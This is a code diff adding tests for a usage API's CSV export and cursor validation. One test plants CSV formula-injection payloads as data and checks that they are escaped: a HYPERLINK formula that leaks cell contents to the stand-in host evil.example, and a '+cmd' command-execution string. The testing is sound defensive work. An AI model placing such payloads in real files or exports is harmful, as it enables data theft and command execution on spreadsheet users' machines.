@@ -161,6 +161,44 @@ describe("GET /api/ai/usage: each caller their own", () => {
       expect(parsed.every((cells) => /^\d{4}-\d{2}-\d{2}$/.test(cells[0] ?? ""))).toBe(true);
     });
 
+    it("neutralises cells a spreadsheet would run as a formula, in every column", async () => {
+      const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+      const user = `@${uniqueId("csv")}`;
+      expect((await admin("POST", "/admin/users", { id: user })).status).toBe(201);
+      const key = String(
+        (await admin("POST", "/admin/keys", { user_id: user, metadata: { note: "+cmd|' /C calc'!A0", tab: "\tx" } })).body.key,
+      );
+      // Sent to a provider that refuses the name: the refusal is on the ledger, name and all.
+      const refused = await callWorker(chatAs(key, { model: formula }, { "x-sluice-provider": "mock" }));
+      expect(refused.response.status).toBeGreaterThanOrEqual(400);
+      await refused.landed();
+      await callsAs(key, 1);
+      const csv = await get(`/admin/usage?user_id=${encodeURIComponent(user)}&format=csv`, TEST_ADMIN_KEY);
+      expect(csv.status).toBe(200);
+      const [header = "", ...lines] = csv.text.trim().split("\r\n");
+      const columns = header.split(",");
+      expect(lines.length).toBeGreaterThanOrEqual(1);
+      // No cell, quoted or not, begins with a character a spreadsheet evaluates.
+      const cells = lines.flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
+      for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
+      const userCell = lines[0]?.split(",")[columns.indexOf("user_id")];
+      expect(userCell).toBe(`'${user}`);
+      expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")"`);
+      expect(csv.text).toContain(`""note"":""+cmd`);
+      // The JSON is untouched: neutralising is the CSV's business.
+      const json = (await get(`/admin/usage?user_id=${encodeURIComponent(user)}`, TEST_ADMIN_KEY)).json() as { data: Row[] };
+      expect(json.data.every((row) => row.user_id === user)).toBe(true);
+    });
+
+    it("refuses a cursor that does not decode to a position, naming `cursor`, without a query", async () => {
+      for (const forged of ["2026-12-05T00:00:00Z|99999999999999999999", "2026-12-05T00:00:00.000Z|1|2", "Dec 5 2026|7"]) {
+        const cursor = btoa(forged).replaceAll("=", "");
+        const answer = await get(`/admin/usage?cursor=${cursor}`, TEST_ADMIN_KEY);
+        expect(answer.status, forged).toBe(400);
+        expect((answer.json() as { error: { param: string } }).error.param).toBe("cursor");
+      }
+    });
+
     it("answers under LiteLLM's names: /spend/logs and /global/spend/report", async () => {
       const logs = (await get(`/spend/logs?user_id=${alice}`, TEST_ADMIN_KEY)).json() as Row[];
       expect(logs).toHaveLength(4);
